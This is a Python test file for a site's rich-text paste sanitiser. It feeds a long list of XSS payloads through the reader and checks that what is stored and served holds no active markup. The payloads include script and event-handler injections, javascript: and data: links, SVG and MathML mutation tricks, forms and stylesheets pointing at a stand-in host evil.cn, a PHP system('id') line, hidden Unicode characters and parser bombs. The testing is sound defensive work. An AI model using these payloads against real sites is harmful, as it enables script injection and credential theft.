"""Hostile pastes: whatever comes in, what is stored and what citizens get holds nothing active."""

import random
import re

import nh3
import pytest
from lxml import html as lxml_html

from sites.models import Article, Column
from sites.writing import assembling
from sites.writing.html import read
from sites.writing.parts import Text, Unreadable
from sites.writing.sanitising import STORED_CLASSES, STORED_TAGS
from sites.writing.store import body_from
from tests.cast import Cast, first_column
from tests.sites.public.build import put, read as visit
from tests.sites.writing.pictures import data_url

SVG = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+"
VECTORS = {
    "script": "<p>甲<script>alert(1)</script></p>",
    "script in upper case with attributes": "<SCRIPT SRC=//evil.cn/x.js></SCRIPT><p>甲</p>",
    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt><p>甲</p>",
    "event handler": "<p onclick='alert(1)' onmouseover=alert(1)>甲</p>",
    "event handler on a picture": f"<img src='{data_url()}' onerror=alert(1)><p>甲</p>",
    "javascript address": "<a href='javascript:alert(1)'>甲</a>",
    "javascript address with a tab": "<a href='java\tscript:alert(1)'>甲</a>",
    "javascript address with references": "<a href='&#106;avascript&colon;alert(1)'>甲</a>",
    "javascript address behind a control character": "<a href='\x01javascript:alert(1)'>甲</a>",
    "vbscript address": "<a href='vbscript:msgbox(1)'>甲</a>",
    "data address in a link": "<a href='data:text/html,<script>alert(1)</script>'>甲</a>",
    "file address": "<a href='file:///etc/passwd'>甲</a>",
    "data address that is no picture": "<img src='data:text/html;base64,PHNjcmlwdD4='><p>甲</p>",
    "svg picture": f"<img src='{SVG}'><p>甲</p>",
    "svg with script": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg><p>甲</p>",
    "svg with animation": "<svg><animate onbegin=alert(1) attributeName=x></svg><p>甲</p>",
    "mathml": "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math><p>甲</p>",
    "mutation by a foreign namespace": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'><p>甲",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript><p>甲</p>",
    "css expression": "<p style='width:expression(alert(1))'>甲</p>",
    "css address": "<p style='background:url(javascript:alert(1));text-align:center'>甲</p>",
    "style sheet": "<style>@import 'https://evil.cn/x.css'; p{behavior:url(x.htc)}</style><p>甲</p>",
    "form": "<form action=https://evil.cn><input name=password><button formaction='javascript:alert(1)'>go</button></form><p>甲</p>",
    "iframe": "<iframe src=https://evil.cn srcdoc='<script>alert(1)</script>'></iframe><p>甲</p>",
    "object and embed": "<object data='javascript:alert(1)'></object><embed src=x.swf><p>甲</p>",
    "base and meta": "<base href=https://evil.cn/><meta http-equiv=refresh content='0;url=javascript:alert(1)'><p>甲</p>",
    "template": "<template><script>alert(1)</script></template><p>甲</p>",
    "comment that closes itself": "<!--><script>alert(1)</script>--><p>甲</p>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]--><p>甲</p>",
    "broken nesting": "<b><p><i>甲</b></p></i><table><a href=javascript:x><tr><td><div></table></td></div>",
    "attribute that breaks out": "<a href='https://x.cn/\"onmouseover=\"alert(1)'>甲</a>",
    "picture text that breaks out": f"<img src='{data_url()}' alt='\"><script>alert(1)</script>'><p>甲</p>",
    "table cell": "<table><tr><td>甲<script>alert(1)</script></td><td onclick=x><img src=x onerror=alert(1)></td></tr><tr><td>&lt;script&gt;</td><td>b</td></tr></table>",
    "wagtail's own marks": "<a linktype=page id=1>甲</a><embed embedtype=image id=1><p data-block-key=x>甲</p>",
    "processing instruction": "<?xml version='1.0'?><?php system('id') ?><p>甲</p>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]><p>甲</p>",
    "null character": "<scr\0ipt>alert(1)</scr\0ipt><p>甲</p>",
    "picture by another's name": "<img src='picture:0'><img src='part:0'><p>甲</p>",
}  # fmt: skip
ACTIVE_TAGS = {
    "script",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "template",
}


def stored_unchanged(html: str) -> bool:
    """Say whether nh3 finds nothing to take away."""
    written = html.replace("<br/>", "<br>").replace("<hr/>", "<hr>")
    return written == nh3.clean(
        written,
        tags=STORED_TAGS,
        attributes={"a": {"href"}},
        allowed_classes=STORED_CLASSES,
        url_schemes={"http", "https", "mailto", "tel"},
        link_rel=None,
    )


@pytest.fixture
def unguarded(monkeypatch: pytest.MonkeyPatch) -> None:
    """Take the last allow-list away: what the writer makes must be clean by itself."""
    monkeypatch.setattr(assembling, "stored", lambda html: html)


@pytest.mark.parametrize("name", VECTORS)
@pytest.mark.usefixtures("unguarded")
def test_the_rich_text_made_of(name: str) -> None:
    for block in read(VECTORS[name]).blocks:
        if isinstance(block, Text):
            assert stored_unchanged(block.html), block.html


def test_what_is_stored_of_every_vector_is_harmless_on_the_public_page(cast: Cast) -> None:
    column = first_column(cast.county_a)
    for name, vector in VECTORS.items():
        body = body_from(read(vector).blocks, cast.county_a, Column.objects.get(pk=column.pk), cast.contributor_a)
        page = put(column, Article(title="恶意粘贴", body=body), day=1)
        answer = visit(page).content.decode()
        prose = lxml_html.fromstring(answer).find_class("prose")[0]
        for element in prose.iter():
            assert element.tag not in ACTIVE_TAGS, name
            for attribute, value in element.attrib.items():
                assert not attribute.lower().startswith("on"), name
                assert attribute not in {"style", "srcdoc", "formaction"}, name
                assert not re.match(r"\s*(javascript|vbscript|data|file):", value, re.IGNORECASE), name
        assert "evil.cn" not in answer, name


@pytest.mark.parametrize(
    ("name", "pasted", "kept"),
    [
        ("right-to-left override", "付款\u202e元001\u202c", "付款元001"),
        ("isolates and marks", "\u2066甲\u2069\u200e乙\u200f\u061c", "甲乙"),
        ("zero-width characters", "中\u200b共\ufeff中\u2060央", "中共中央"),
        ("joiners between Chinese characters", "中\u200d央\u200c", "中央"),
        ("joiners that carry meaning", "👨\u200d👩 می\u200cخواهم", "👨\u200d👩 می\u200cخواهم"),
        ("full-width space from GB", "张\ue5e5三", "张　三"),
        ("control characters", "甲\x07\x1b[31m乙", "甲[31m乙"),
        ("soft hyphens and line separators", "甲\u00ad乙\u2028丙", "甲乙丙"),
        ("tag characters", "甲\U000e0041\U000e0042乙", "甲乙"),
    ],
)
def test_hidden_characters(name: str, pasted: str, kept: str) -> None:
    assert read(f"<p>{pasted}</p>").blocks == (Text(f"<p>{kept}</p>"),)


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 300_000,
        "<table><tr><td>" * 2_000,
        "<p><b>甲" * 100_000,
        "".join(f"<b id={at}>" for at in range(90)) + "<p>甲" * 50_000,
        "甲&nbsp;" * 600_000,
        "<p>甲" * 400_000,
        "<" * 4_000_000,
        "<table>" + "<td>甲" * 200_000,
        "<ul><li>" * 5_000,
    ],
    ids=["depth", "tables in tables", "unclosed bold", "reopened formatting", "references", "paragraphs", "angles", "cells", "lists"],
)  # fmt: skip
def test_a_bomb_is_refused_with_a_sentence(bomb: str) -> None:
    with pytest.raises(Unreadable):
        read(bomb)


def test_an_endless_comment_swallows_the_rest_and_nothing_hangs() -> None:
    assert read("<p>甲</p>" + "<!--" * 1_000_000).blocks == (Text("<p>甲</p>"),)


PIECES = [
    *(f"<{tag}{attributes}>" for tag in ("p", "div", "span", "b", "i", "a", "table", "tr", "td", "th", "ul", "ol", "li", "h1", "sup")
      for attributes in ("", " align=right", " style='text-align:center;mso-list:l0 level3 lfo1'", " href='javascript:x'", " href='https://a.cn/?x=<&\"'",
                         " colspan=4 rowspan=99999", " onclick=x class='text-center marker'")),
    *(f"</{tag}>" for tag in ("p", "div", "span", "b", "i", "a", "table", "tr", "td", "ul", "ol", "li", "h1", "sup")),
    "<script>", "</script>", "<style>", "</style>", "<svg>", "</svg>", "<br>", "<hr>", "<!--", "-->", "<![if x]>", "<o:p>", "<img src='file:///x'>",
    "<span style='mso-list:Ignore'>", "汉字", " ", "&nbsp;", "&lt;script&gt;", "&#0;", "\u202e", "\ue5e5", "<", "&", "\"'", "　", "\n", "\0", "1.",
]  # fmt: skip


@pytest.mark.usefixtures("unguarded")
def test_random_html_never_breaks_the_reader_and_comes_out_clean() -> None:
    for seed in range(3000):
        chance = random.Random(seed)
        pasted = "".join(chance.choices(PIECES, k=chance.randint(1, 100)))
        for block in read(pasted).blocks:
            if isinstance(block, Text):
                assert stored_unchanged(block.html), (seed, block.html)
